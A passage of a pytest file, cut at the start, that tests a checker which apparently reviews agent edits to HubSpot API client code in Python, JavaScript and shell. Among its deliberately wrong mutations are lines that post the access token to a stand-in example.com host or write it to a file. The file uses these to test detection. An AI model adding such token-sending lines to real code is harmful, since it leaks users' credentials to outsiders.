    def __init__(self, token):
        self.token = token

    def send(self, {}):
        return requests.post(url + "?access_token=" + self.token, data="{{}}")
"""


@pytest.mark.parametrize(
    ("address", "problems"),
    [("url", []), ('url="https://api.hubapi.com/owners/v2/owners"', ["it still sends access_token"])],
)
def test_a_token_in_the_query_to_a_host_that_nothing_tells_is_another_vendors(
    address: str, problems: list[str], tmp_path: Path
) -> None:
    before, after = (
        {path: text + TOKENED.format(address) for path, text in one.items()} for one in (ONE.before, ONE.after)
    )
    assert told(compared(tmp_path, before, after)) == problems


SENDS = """import os
import sys
import requests

KEY = os.environ["HUBSPOT_TOKEN"]
BASE = "https://api.hubapi.com"


def lists(count):
    headers = {"Authorization": "Bearer " + KEY}
    return requests.get(BASE + "/contacts/v1/lists", params={"count": count}, headers=headers, timeout=30)
"""
SENT = """const axios = require("axios");
const token = process.env.HUBSPOT_TOKEN;
const base = "https://api.hubapi.com";

async function lists(count) {
  const headers = { Authorization: `Bearer ${token}` };
  return axios.get(`${base}/contacts/v1/lists`, { params: { count }, headers, timeout: 1000 });
}
async function owners(id) {
  const address = `${base}/owners/v2/owners/${id}`;
  return fetch(address, { headers: { Authorization: `Bearer ${token}` } });
}
module.exports = { lists, owners };
"""
BY_HAND = {"app.py": SENDS, "app.js": SENT}
AGENTS = [
    ("app.py", "    headers =", "    if count > 5:\n        {}\n    headers =", [
        ("sys.exit(1)", False), ("exit()", False), ("os._exit(2)", False), ("print(count)", True),
    ]),
    ("app.py", "    headers =", "    {}\n    headers =", [
        ("if not KEY: sys.exit('no token')", True), ("assert KEY", True), ("assert count", False),
        ("open('x.txt', 'w').write(KEY)", False), ("open('x.txt', 'w').write(str(count))", True),
        ("requests.post('https://example.com/x', json={'t': KEY})", False),
        ("requests.post('https://example.com/x', json={'t': count})", True),
    ]),
    ("app.py", "\n\ndef lists", "\n{}\n\ndef lists", [
        ("if len(sys.argv) < 2: sys.exit()", False), ("if not KEY: sys.exit()", True),
        ("def stop():\n    print('no')\n    sys.exit(1)\n\nif len(sys.argv) < 2: stop()", False),
    ]),
    ("app.py", '"https://api.hubapi.com"', "{}", [
        ('os.environ.get("HUB", "https://api.hubapi.com")', False),
        ('os.environ.get("HUB") or "https://api.hubapi.com"', False), ("'https://api.hubapi.com'", True),
    ]),
    ("app.py", 'os.environ["HUBSPOT_TOKEN"]', "{}", [
        ('os.environ.get("HUBSPOT_TOKEN", "")', False),
        ('os.getenv("HUBSPOT_TOKEN", "")\nif not KEY:\n    raise SystemExit("no token")', True),
    ]),
    ("app.py", "timeout=30", "{}", [
        ("timeout=30, allow_redirects=False", False), ("timeout=1", False), ("timeout=(30)", True), ("**{}", False),
    ]),
    ("app.py", '"count": count', '"count": {}', [("count + 1", False), ("count", True)]),
    ("app.js", "  const headers", "  {}\n  const headers", [
        ("if (!count) process.exit(1);", False), ("count || process.exit(1);", False),
        ("if (!token) process.exit(1);", True), ("token || process.exit(1);", True),
        ("require('fs').writeFileSync('t.txt', token);", False), ("require('fs').writeFileSync('t.txt', count);", True),
        ("axios.post('https://example.com', { token });", False), ("axios.post('https://a.com', { count });", True),
    ]),
    ("app.js", '"https://api.hubapi.com"', "{}", [
        ('process.env.HUB || "https://api.hubapi.com"', False), ('process.env.HUB ?? "https://api.hubapi.com"', False),
        ("'https://api.hubapi.com'", True),
    ]),
    ("app.js", "fetch(address, {", "fetch(address, {{ {}", [("redirect: 'manual',", False), ("", True)]),
    ("app.js", "timeout: 1000", "{}", [("", False), ("timeout: 1000, maxRedirects: 0", False)]),
]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "old", "new", "right"),
    [(path, old, into.format(what), right) for path, old, into, every in AGENTS for what, right in every],
)
def test_what_is_changed_around_a_request_is_told(path: str, old: str, new: str, right: bool, tmp_path: Path) -> None:
    text = BY_HAND[path]
    assert old in text
    found = compared(tmp_path, {path: text}, {path: text.replace(old, new, 1)})
    assert found.ok is right, (told(found), found.open, found.logged)


HUB = """BASE=https://api.hubapi.com
hub() { curl -s -H "Authorization: Bearer $K" "$@"; }
hub "$BASE/contacts/v1/lists"
hub -X DELETE "$BASE/contacts/v1/contact/vid/7"
"""


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("", "", None),
        ("{ curl", "{\n  echo sent\n  curl", None),
        ('-H "Authorization: Bearer $K" ', "", "the credential is no longer sent"),
        (" -X DELETE", "", "the method was DELETE, is GET"),
    ],
)
def test_a_function_of_a_shell_that_hands_on_what_it_is_given_is_what_it_runs(
    old: str, new: str, problem: str | None, tmp_path: Path
) -> None:
    before = "BASE=https://api.hubapi.com\n" + "".join(
        f'curl -s {option}"$BASE/contacts/v1/{path}?hapikey=$K"\n'
        for option, path in (("", "lists"), ("-X DELETE ", "contact/vid/7"))
    )
    found = compared(tmp_path, {"run.sh": before}, {"run.sh": HUB.replace(old, new, 1)})
    assert set(told(found)) == ({problem} if problem else set())


PAGES_PY = """import os
import requests

KEY = os.environ.get("HUBSPOT_TOKEN", "none-set")


def page(offset):
    response = requests.get(
        "https://api.hubapi.com/contacts/v1/lists/all/contacts/all",
        params={"vidOffset": offset},
        headers={"Authorization": f"Bearer {KEY}"},
    )
    response.raise_for_status()
    return response.json()


def remove(vid):
    try:
        url = f"https://api.hubapi.com/contacts/v1/contact/vid/{vid}"
        requests.delete(url, headers={"Authorization": "Bearer " + KEY})
    except requests.ConnectionError:
        print("gone")
        raise


def main():
    offset = 0
    while True:
        found = page(offset)
        if not found["has-more"]:
            break
        offset = found["vid-offset"]
    remove(offset)


main()
"""
PAGES_JS = """const axios = require('axios');
const KEY = process.env.HUBSPOT_TOKEN;
async function page(vidOffset) {
  const res = await axios.get('https://api.hubapi.com/contacts/v1/lists/all/contacts/all', {
    params: { vidOffset }, headers: { Authorization: `Bearer ${KEY}` }, timeout: 3000,
  });
  if (!res.data) throw new Error(res.statusText);
  return res.data;
}
async function main() {
  let offset = 0;
  for (;;) {
    const found = await page(offset);
    if (!found['has-more']) break;
    offset = found['vid-offset'];
  }
}
main();
"""
HANDLED = {"app.py": PAGES_PY, "app.js": PAGES_JS}
HANDLING = [
    ("app.py", "    response.raise_for_status()\n", [
        ("", "no longer raised"), ("    check(response)\n", "no longer raised"),
        ("    if response.status_code >= 400:\n        raise ValueError(response.text)\n", ""),
        ("    try:\n        response.raise_for_status()\n    except OSError:\n        pass\n", "no longer raised"),
    ]),
    ("app.py", '        print("gone")\n        raise\n', [
        ('        print("gone")\n', "is caught now"), ("        raise ValueError(vid)\n", ""),
    ]),
    ("app.py", "    return response.json()", [
        ("    response.json()", "no longer returns"), ("    return response.json() or {}", ""),
    ]),
    ("app.py", "    remove(offset)\n", [("    pass\n", "nothing calls `remove`"), ("    remove(vid=offset)\n", "")]),
    ("app.py", '        if not found["has-more"]:\n            break', [
        ("        break", "ends the loop"), ('        if found["has-more"]:\n            break', "if `found["),
        ('        if not found["has-more"]:\n            print("done")\n            break', ""),
    ]),
    ("app.py", "    offset = 0\n", [
        ("    raise SystemExit\n    offset = 0\n", "any more"), ("    offset = int(0)\n", ""),
    ]),
    ("app.py", 'os.environ.get("HUBSPOT_TOKEN", "none-set")', [
        ('os.environ.get("HUBSPOT_TOKEN")', "is empty where"), ('os.environ["HUBSPOT_TOKEN"]', ""),
        ('os.environ.get("HUBSPOT_TOKEN")\nif not KEY:\n    raise SystemExit("no token")', ""),
    ]),
    ("app.py", '"Bearer " + KEY', [
        ("'Bearer ' + KEY[:-1]", "another text"), ("'Bearer {KEY}'", "name of a variable"),
        ("'Bearer %s' % KEY", ""),
    ]),
    ("app.js", "await axios", [("axios", "no longer waited for")]),
    ("app.js", "await page(", [("page(", "no longer waited for")]),
    ("app.js", "timeout: 3000", [("timeout: 3000, validateStatus: () => true", "validateStatus was not given")]),
    ("app.js", "  if (!res.data) throw new Error(res.statusText);\n", [("", "no longer raised")]),
    ("app.js", "async function page", [
        ("process.exit(0);\nasync function page", "comes before it"), ("async function  page", ""),
    ]),
    ("app.js", "`Bearer ${KEY}`", [("`Bearer ${LOST}`", "of which nothing is known"), ("'Bearer ' + KEY", "")]),
]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "old", "new", "problem"),
    [(path, old, new, problem) for path, old, every in HANDLING for new, problem in every],
)
def test_what_is_done_with_an_answer_is_accounted_for(
    path: str, old: str, new: str, problem: str, tmp_path: Path
) -> None:
    text = HANDLED[path]
    assert old in text
    found = compared(tmp_path, {path: text}, {path: text.replace(old, new, 1)})
    assert [problem in one for one in told(found)][:1] == ([True] if problem else []), told(found)
